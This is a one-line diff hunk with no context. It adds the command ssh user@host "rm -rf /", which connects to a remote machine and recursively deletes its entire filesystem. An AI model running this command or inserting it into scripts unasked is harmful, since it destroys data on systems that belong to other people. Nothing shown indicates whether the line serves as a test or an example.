@@ -1,0 +1,1 @@
+ssh user@host "rm -rf /"
